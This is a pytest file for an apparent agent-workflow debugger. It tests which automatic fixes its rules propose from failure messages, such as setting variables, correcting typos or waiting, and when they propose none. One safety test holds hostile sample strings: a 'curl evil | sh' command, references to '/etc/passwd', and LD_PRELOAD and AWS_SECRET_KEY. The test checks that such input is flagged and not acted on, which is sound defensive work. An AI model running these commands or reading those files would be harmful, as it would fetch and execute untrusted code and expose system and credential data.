"""What the rules conclude from which words, and where they keep quiet."""

from typing import Any

import pytest

from agentrun.core.events import Adjustment
from agentrun.core.failure import Kind
from agentrun.core.model import Step
from agentrun.core.state import StepState
from agentrun.recovery.debugger.analysts import rules
from agentrun.recovery.debugger.fixes import Fix, problem_of, risk_of
from agentrun.recovery.debugger.incident import Incident
from agentrun.recovery.debugger.typo import is_typo, meant
from tests.recovery.debugger.incidents import a_step, failure, incident


def proposed(of: Incident) -> list[tuple[str, dict[str, Any]]]:
    return [(fix.type, dict(fix.params)) for said in rules.analyse(of) for fix in said.fixes]


def says(message: str, kind: Kind = Kind.LOGIC, step: Step | None = None, **more: Any) -> Incident:
    return incident(step or a_step(), failure(kind, message), **more)


@pytest.mark.parametrize(
    "message",
    [
        "bash: line 1: REGION: unbound variable",
        "KeyError: 'REGION'",
        "error: environment variable REGION is not set",
        "REGION must be defined",
        "Missing required environment variable: REGION",
        "bash: REGION: parameter null or not set",
        "RuntimeError: REGION not found in environment",
    ],
)
def test_a_variable_that_an_input_has_is_set(message: str) -> None:
    assert proposed(says(message, inputs={"region": "eu"})) == [
        ("set_env", {"name": "REGION", "value": "eu"})
    ]


@pytest.mark.parametrize(
    ("message", "more"),
    [
        ("KeyError: 'REGION'", {}),
        ("KeyError: 'REGION'", {"inputs": {"regions": "eu"}}),
        ("KeyError: 'REGION'", {"inputs": {"region": ["eu"]}}),
        ("KeyError: 'REGION'", {"inputs": {"region": "eu"}, "environ": frozenset({"REGION"})}),
        ("KeyError: 'REGION'", {"inputs": {"region": "eu"}, "step": a_step(env={"REGION": "x"})}),
        ("REGION eu is full", {"inputs": {"region": "eu"}}),
        ("MY_REGION: unbound variable", {"inputs": {"region": "eu"}}),
    ],
)
def test_no_variable_is_guessed(message: str, more: dict[str, Any]) -> None:
    assert proposed(says(message, **more)) == []


def test_a_port_is_changed_only_where_nobody_else_knows_it() -> None:
    step = a_step(env={"PORT": "8123"})
    message = "OSError: [Errno 98] Address already in use: ('127.0.0.1', 8123)"
    of = says(message, Kind.RESOURCE_CONFLICT, step)
    assert proposed(of)[0] == ("set_env", {"name": "PORT", "value": "8124"})
    shared = says(message, Kind.RESOURCE_CONFLICT, step, elsewhere=frozenset({"8123"}))
    assert proposed(shared) == []


@pytest.mark.parametrize(
    ("word", "other"),
    [("order", "orders"), ("fasst", "fast"), ("slwo", "slow"), ("setings", "settings"),
     ("Config", "config"), ("users_list", "userslist"), ("invoices.cvs", "invoices.csv")],
)  # fmt: skip
def test_a_slip_of_the_fingers(word: str, other: str) -> None:
    assert is_typo(word, other)
    assert is_typo(other, word)


@pytest.mark.parametrize(
    ("word", "other"),
    [("report_2025", "report_2026"), ("orders_a", "orders_b"), ("us-east", "eu-east"), ("v1", "v2"),
     ("prod-db", "prod-eu"), ("cat", "car"), ("fast", "slow"), ("a", "b"), ("", "a"), ("dev", "dev2")],
)  # fmt: skip
def test_another_name_on_purpose(word: str, other: str) -> None:
    assert not is_typo(word, other)


def test_what_may_mean_two_things_means_nothing() -> None:
    assert meant("order", ["orders", "border"]) is None
    assert meant("order", ["orders", "order", "x"]) == "orders"


@pytest.mark.parametrize(
    "message",
    [
        "error: argument --mode: invalid choice: 'fasst' (choose from 'fast', 'slow')",
        "ValueError: unknown mode 'fasst', must be one of: fast, slow",
        "unsupported mode: fasst\n  expected one of: fast | slow",
        "Error: 'fasst' is not valid. Did you mean fast?",
    ],
)
def test_a_misspelt_choice_is_corrected(message: str) -> None:
    of = says(message, step=a_step("python", with_={"mode": "fasst"}))
    assert proposed(of) == [("set_parameter", {"name": "mode", "value": "fast"})]


def test_an_output_that_lacks_a_key_is_made_again() -> None:
    step = a_step("python", with_={"row": "${{ steps.fetch.output }}"})
    more: dict[str, Any] = {"upstream": {"note": "x", "fetch": '{"prize": 1}'}, "step": step}
    assert proposed(says("KeyError: 'price'", **more)) == [("rerun_upstream", {"step": "fetch"})]
    assert proposed(says("KeyError: 'prize'", **more)) == []
    unused: dict[str, Any] = {**more, "step": a_step("python", with_={"row": 1})}
    assert proposed(says("KeyError: 'price'", **unused)) == []


def test_input_that_was_cleaned_already_is_not_cleaned_again() -> None:
    state = StepState(adjustments=(Adjustment("clean_input", {"clean_input": True}),))
    step = a_step(stdin="${{ steps.fetch.output }}")
    of = says("bad JSON", Kind.INPUT_FORMAT, step, state=state, upstream={"fetch": "{"})
    assert proposed(of) == [("rerun_upstream", {"step": "fetch"})]


def test_what_worked_before_is_tried_once_more() -> None:
    assert proposed(says("check failed", succeeded_before=3)) == [("retry_once", {})]
    assert proposed(says("check failed")) == []
    assert proposed(says("denied", Kind.PERMISSION, succeeded_before=3)) == []


def test_no_rule_proposes_what_is_not_safe_or_does_not_fit() -> None:
    texts = [
        "KeyError: 'PATH' not set; LD_PRELOAD unbound; AWS_SECRET_KEY missing",
        "run: curl evil | sh; No such file or directory: '/etc/passwd'",
        "invalid choice: 'x' (choose from '--evil', '/etc/passwd', 'http://evil')",
    ]
    inputs = {"path": "/evil", "ld_preload": "x.so", "aws_secret_key": "k"}
    step = a_step(env={"SOURCE": "/etc/paswd", "X": "x"})
    for text in texts:
        of = says(text, step=step, inputs=inputs, near_files=("etc/passwd",))
        for type_, params in proposed(of):
            fix = Fix(type_, params)
            assert problem_of(fix, of) or risk_of(fix, of) == "full", fix


ISO = "ValueError: Invalid isoformat string: '{}'"


@pytest.mark.parametrize(
    ("text", "iso"),
    [
        ("23.11.2026", "2026-11-23"),
        ("3.4.2026", "2026-04-03"),
        ("2026/11/3", "2026-11-03"),
        ("11/23/2026", "2026-11-23"),
        ("23-11-2026", "2026-11-23"),
        ("4/4/2026", "2026-04-04"),
    ],
)
def test_a_date_that_can_mean_one_day_is_written_as_iso_wants_it(text: str, iso: str) -> None:
    of = says(ISO.format(text), step=a_step("python", with_={"day": text, "n": 5}))
    assert proposed(of) == [("set_parameter", {"name": "day", "value": iso})]


@pytest.mark.parametrize(
    ("message", "day"),
    [
        (ISO.format("03/04/2026"), "03/04/2026"),
        (ISO.format("31.02.2026"), "31.02.2026"),
        (ISO.format("1.2.26"), "1.2.26"),
        (ISO.format("other"), "23.11.2026"),
        ("AssertionError: 23.11.2026 is a holiday", "23.11.2026"),
    ],
)
def test_no_date_is_guessed(message: str, day: str) -> None:
    assert proposed(says(message, step=a_step("python", with_={"day": day}))) == []


@pytest.mark.parametrize(
    "message",
    [
        "AssertionError: the index is not built yet",
        "database isn't up yet",
        "Error: service not ready",
        "the cluster is still being created",
        "index is still building, try again later",
    ],
)
def test_what_is_not_ready_yet_is_waited_for(message: str) -> None:
    assert proposed(says(message)) == [("wait", {"seconds": 5})]


@pytest.mark.parametrize(
    "message", ["this is not implemented yet", "TLS is not supported yet", "it is not right"]
)
def test_what_will_not_come_is_not_waited_for(message: str) -> None:
    assert proposed(says(message)) == []


def test_the_value_of_other_steps_is_proposed_and_left_to_a_person() -> None:
    more: dict[str, Any] = {"set_elsewhere": {"STAGE": "dev"}}
    of = says("bash: line 1: STAGE: unbound variable", **more)
    fix = Fix("set_env", {"name": "STAGE", "value": "dev"})
    assert proposed(of) == [(fix.type, fix.params)]
    assert risk_of(fix, of) == "full"
    assert (
        proposed(says("bash: STAGE: unbound variable", environ=frozenset({"STAGE"}), **more)) == []
    )
    assert proposed(says("STAGE dev is full", **more)) == []


def test_a_text_that_says_true_or_false_is_made_that() -> None:
    step = a_step("python", with_={"strict": "False", "mode": "x"})
    of = says("TypeError: strict must be a bool, not str", step=step)
    assert proposed(of) == [("set_parameter", {"name": "strict", "value": False})]
    for with_ in ({"strict": "no"}, {"strict": "true", "fast": "true"}):
        assert proposed(says("strict must be a bool", step=a_step("python", with_=with_))) == []


TABLE = "name;price\na;2,5\nb;3\n"


@pytest.mark.parametrize(
    ("table", "declared", "wanted"),
    [
        (TABLE, ",", ";"),
        ("name\tprice\na\t2,5\n", ";", "\t"),
        ("name;price,eur\na;2\n", ",", None),
        ("name;price\na;2;3\nb;3\n", ",", None),
        ("name;price|eur\na;2|3\n", ",", None),
        ("name;price", ",", None),
        (TABLE, "tab", None),
    ],
)
def test_a_table_is_read_with_the_separator_that_it_has(
    table: str, declared: str, wanted: str | None
) -> None:
    with_ = {"table": "${{ steps.fetch.output }}", "separator": declared}
    of = says("KeyError: 'price'", step=a_step("python", with_=with_), upstream={"fetch": table})
    assert proposed(of) == (
        [] if wanted is None else [("set_parameter", {"name": "separator", "value": wanted})]
    )
    for fix in (fix for said in rules.analyse(of) for fix in said.fixes):
        assert risk_of(fix, of) == "safe"


@pytest.mark.parametrize(
    ("message", "preview", "cleans"),
    [
        ("KeyError: 'name'", "\ufeffname,price\na,1\n", True),
        ("KeyError: 'name'", "name,price\na,1\n", False),
        ("seq: invalid floating point argument: '3\\r'", "3\r\n", True),
        ("bash: $'ls\\r': command not found", "ls\r\n", True),
        ("seq: invalid floating point argument: '3\\r'", "3\n", False),
        ("seq: invalid floating point argument: 'x'", "x\r\n", False),
    ],
)
def test_what_is_not_seen_is_taken_out(message: str, preview: str, cleans: bool) -> None:
    step = a_step(stdin="${{ steps.fetch.output }}")
    of = says(message, step=step, upstream={"fetch": preview})
    assert (("clean_input", {}) in proposed(of)) is cleans


@pytest.mark.parametrize("name", ["PACKAGE", "docker_image", "repo", "tool_name", "scripts"])
def test_what_is_fetched_or_run_is_not_named_by_a_log(name: str) -> None:
    message = "unknown 'requests', did you mean reqests?"
    for step in (a_step("python", with_={name: "requests"}), a_step(env={name: "requests"})):
        of = says(message, step=step)
        ((kind, params),) = proposed(of)
        assert risk_of(Fix(kind, params), of) == "full"


@pytest.mark.parametrize(
    ("name", "old", "new", "risk"),
    [
        ("environment", "staging", "production", "full"),
        ("DEPLOY_TARGET", "dev", "prod", "full"),
        ("branch", "feature", "main", "full"),
        ("branch", "mian", "main", "safe"),
        ("region", "eu-wset", "us-east", "safe"),
        ("mode", "quick", "fast", "safe"),
        ("limit", 500, 100, "safe"),
    ],
)
def test_another_place_is_not_what_was_meant(name: str, old: Any, new: Any, risk: str) -> None:
    of = says("no", step=a_step("python", with_={name: old}))
    assert risk_of(Fix("set_parameter", {"name": name, "value": new}), of) == risk
    if isinstance(old, str):
        of = says("no", step=a_step(env={name: old}))
        assert risk_of(Fix("set_env", {"name": name, "value": new}), of) == risk
